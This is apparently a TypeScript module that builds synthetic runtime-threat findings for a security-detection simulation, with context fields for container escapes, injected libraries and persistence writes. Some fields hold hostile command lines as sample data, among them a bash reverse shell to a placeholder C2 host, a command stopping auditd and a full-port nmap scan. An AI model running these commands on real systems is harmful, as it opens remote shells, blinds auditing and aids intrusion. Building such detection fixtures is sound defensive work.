import type { Scene } from '../scene/scene.js';
import { SECOND, seconds } from '../values/time.js';
import type { WireObject } from '../values/wireObject.js';
import { PROGRAMS, processDetails } from './process.js';

/** RuntimeContext of a finding; its members depend on the activity that was seen. */
export type Context = (scene: Scene) => WireObject;

export const connection: Context = () => ({ addressFamily: 'AF_INET', ianaProtocolNumber: 6 });

export const newBinary: Context = (scene) => ({
  ...modification(scene),
  modifyingProcess: processDetails(scene, PROGRAMS.curl),
});

export const newLibrary: Context = (scene) => ({
  ...modification(scene),
  modifyingProcess: processDetails(scene, PROGRAMS.python),
  libraryPath: '/usr/local/lib/libproc-hide.so',
  ldPreloadValue: '/usr/local/lib/libproc-hide.so',
});

export const reverseShell: Context = () => ({
  addressFamily: 'AF_INET',
  ianaProtocolNumber: 6,
  commandLineExample: 'bash -i >& /dev/tcp/c2.example.net/4444 0>&1',
});

export const script: Context = () => ({
  scriptPath: '/tmp/.install/setup.sh',
  commandLineExample: 'sh /tmp/.install/setup.sh --quiet',
  shellHistoryFilePath: '/home/app/.bash_history',
});

export const tool: Context = () => ({
  toolName: 'nmap',
  toolCategory: 'Network scanner',
  commandLineExample: 'nmap -sS -p- 10.0.0.0/16',
});

export const serviceStopped: Context = () => ({
  serviceName: 'auditd',
  commandLineExample: 'systemctl stop auditd',
  shellHistoryFilePath: '/root/.bash_history',
});

export const kernelModule: Context = (scene) => ({
  moduleName: 'netfilter_hook',
  moduleFilePath: '/lib/modules/6.8.0/extra/netfilter_hook.ko',
  moduleSha256: scene.random.hex(64),
});

export const injection: Context = (scene) => ({
  targetProcess: processDetails(scene, PROGRAMS.python),
  memoryRegions: ['[stack]', `0x${scene.random.hex(12)}-rwx`],
});

export const containerSocket: Context = () => ({ socketPath: '/var/run/docker.sock' });

export const runcOverwritten: Context = (scene) => ({
  ...modification(scene),
  runcBinaryPath: '/usr/bin/runc',
  modifyingProcess: processDetails(scene, PROGRAMS.dropped),
});

export const releaseAgent: Context = () => ({ releaseAgentPath: '/sys/fs/cgroup/rdma/release_agent' });

export const hostMount: Context = () => ({
  mountSource: '/dev/nvme0n1p1',
  mountTarget: '/mnt/host',
  fileSystemType: 'ext4',
  flags: ['MS_BIND', 'MS_REC'],
});

export const malwareFile: Context = () => ({ threatFilePath: PROGRAMS.dropped.path });

/** A file that decides who may log in, or what runs at start. */
export const sensitiveFile: Context = (scene) => ({
  ...modification(scene),
  fileOperation: scene.random.pick(['Write', 'Rename', 'Symlink']),
  filePath: '/etc/cron.d/refresh',
  relatedFilePaths: ['/etc/cron.d/refresh', '/root/.ssh/authorized_keys'],
});

function modification(scene: Scene) {
  return { modifiedAt: seconds(scene.firstSeen - scene.random.integer(5, 60) * SECOND) };
}
